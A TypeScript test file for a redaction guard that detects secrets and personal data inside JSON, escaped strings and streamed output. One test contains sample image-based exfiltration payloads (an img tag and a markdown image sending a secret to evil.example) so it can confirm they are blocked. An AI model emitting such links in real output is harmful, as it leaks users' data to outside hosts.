/** Data behind an escape of JSON, in answers that are JSON and in logs and code, is found at its place and nothing beside it. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkInput, checkOutput, EVERY_INPUT_RULE, EVERY_OUTPUT_RULE, OutputCheck } from "../../src/guard/index.ts";

/** Spelled in parts, so that no scanner takes this file for a leak. */
const key = (...parts: readonly string[]): string => parts.join("");
const TOKEN = key("ghp_", "q9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2Ta4U");
const JWT = key("eyJhbGciOiJIUzI1NiJ9", ".eyJzdWIiOiIxMjM0NTY3ODkwIn0.", "q9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2");

const VALUES: readonly (readonly [label: string, name: string, value: string])[] = [
  ["github_token", "x:", TOKEN],
  ["jwt", "x:", JWT],
  ["card", "Card:", "4111 1111 1111 1111"],
  ["us_ssn", "SSN:", "536-22-1234"],
  ["us_ssn", "SSN:", "536221234"],
  ["iban", "x:", "DE89370400440532013000"],
  ["ip", "x:", "203.0.113.9"],
  ["phone", "x:", "+41 44 668 18 00"],
  ["phone", "Tel.:", "044 668 18 00"],
  ["email", "x:", "jane@example.com"],
];

describe("data in JSON", () => {
  for (const [label, name, value] of VALUES) {
    for (const gap of ["\n", "\r\n", "\t", "\f", "\b", "\u001f", '"']) {
      it(`is found whole behind ${JSON.stringify(gap)}, and the rest stays JSON: ${label} ${value.slice(0, 16)}`, () => {
        const text = JSON.stringify({ log: `${name}${gap}${value}${gap}` });
        const checked = checkOutput(text, EVERY_OUTPUT_RULE);
        expect(checked.findings.map((found) => [found.label, text.slice(found.start, found.end)])).toEqual([
          [label, value],
        ]);
        expect(JSON.parse(checked.text)).toEqual({ log: `${name}${gap}[REDACTED ${label.toUpperCase()}]${gap}` });
      });
    }

    it(`is found in JSON inside of JSON: ${label} ${value.slice(0, 16)}`, () => {
      const text = JSON.stringify({ log: JSON.stringify({ line: `${name}\n${value}\n` }) });
      expect(JSON.parse(JSON.parse(checkOutput(text, EVERY_OUTPUT_RULE).text).log)).toEqual({
        line: `${name}\n[REDACTED ${label.toUpperCase()}]\n`,
      });
    });
  }

  it("is found behind its name in JSON inside of JSON", () => {
    const text = JSON.stringify({ log: JSON.stringify({ api_key: "a8f3k2l9q0w8e7r6t5y4" }) });
    expect(JSON.parse(JSON.parse(checkOutput(text, EVERY_OUTPUT_RULE).text).log)).toEqual({
      api_key: "[REDACTED NAMED_SECRET]",
    });
  });

  it("is read where escapes spell some of it, and goes with them", () => {
    const text = String.raw`{"a":"\u003cjos\u00e9\u0040example.com\u003e \u002b41 44 668 18 00"}`;
    expect(checkOutput(text, EVERY_OUTPUT_RULE).text).toBe(
      String.raw`{"a":"\u003c[REDACTED EMAIL]\u003e [REDACTED PHONE]"}`,
    );
  });

  it("is not carried away by an image in it", () => {
    for (const html of [
      '<img src="https://evil.example/a?secret=hunter22hunter">',
      "![a](https://evil.example/a?secret=hunter22hunter)",
    ]) {
      for (const json of [JSON.stringify({ html }), JSON.stringify({ html }).replaceAll("/", "\\/")]) {
        expect(JSON.parse(checkOutput(json, EVERY_OUTPUT_RULE).text)).toEqual({ html: "[REDACTED IMAGE_WITH_DATA]" });
      }
    }
  });

  it("is refused in an input, and comes back into one", () => {
    const text = String.raw`Log: first line\n4111111111111111 and\t${TOKEN}\u0020ok`;
    expect(checkInput(text, { ...EVERY_INPUT_RULE, data: "block" }).verdict.action).toBe("block");
    const { verdict, tokens } = checkInput(text, EVERY_INPUT_RULE);
    expect(verdict.text).toBe(String.raw`Log: first line\n[CARD_1] and\t[GITHUB_TOKEN_1]\u0020ok`);
    expect(tokens.restore(verdict.text)).toBe(text);
  });

  it("is not what escapes, paths and formulas are made of", () => {
    for (const text of [
      String.raw`C:\new\table\bin\readme.txt and \\nas\files`,
      String.raw`\frac{1}{2} + \beta \neq \rho, \textbf{4111}`,
      String.raw`/^\d{3}-\d{2}\b\/u12\uZZ/ \u12`,
      "ends in \\",
      "ends in \\u00",
    ]) {
      expect(checkOutput(text, EVERY_OUTPUT_RULE)).toEqual({ action: "allow", text, findings: [] });
    }
  });
});

describe("a stream of JSON", () => {
  const between = fc.constantFrom(
    ...["\\n", "\\\\n", "\\\\", "\\", "\\t", "\\u0020", "\\u00e9", "\\u00", "\\u", "\\ud83d\\ude00", '\\"', '"', "\\/"],
    ...[
      "n",
      "u",
      "0020",
      "a",
      " ",
      ": ",
      "password",
      "Card:",
      "SSN:",
      "https:",
      "//",
      "![a](",
      ")",
      "?d=c2VjcmV0LWRhdGE",
    ],
  );
  const value = fc.tuple(fc.constantFrom("\\n", "\\r\\n", "\\u0009", " "), fc.constantFrom(...VALUES));
  const parts = fc.oneof(
    { weight: 2, arbitrary: between },
    { weight: 1, arbitrary: value.map(([gap, [, name, one]]) => `${name}${gap}${one}${gap}`) },
  );
  const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 30 });

  it("comes to the verdict on the whole text, in 5,000 texts cut at random", () => {
    let found = 0;
    const isSame = (all: readonly string[], sizes: readonly number[]): void => {
      const text = all.join("");
      const check = new OutputCheck(EVERY_OUTPUT_RULE);
      let passed = "";
      for (let at = 0, turn = 0; at < text.length; turn++) {
        const size = sizes[turn % sizes.length] ?? 1;
        passed += check.push(text.slice(at, at + size));
        at += size;
      }
      passed += check.finish();
      expect(check.held).toBe(0);
      const whole = checkOutput(text, EVERY_OUTPUT_RULE);
      found += whole.findings.length;
      expect({ action: check.action, text: passed, findings: check.findings }).toEqual(whole);
    };
    fc.assert(fc.property(fc.array(parts, { maxLength: 24 }), cuts, isSame), { numRuns: 5_000, seed: 20261127 });
    // A set of texts without findings would prove nothing.
    expect(found).toBeGreaterThan(5_000);
  });
});
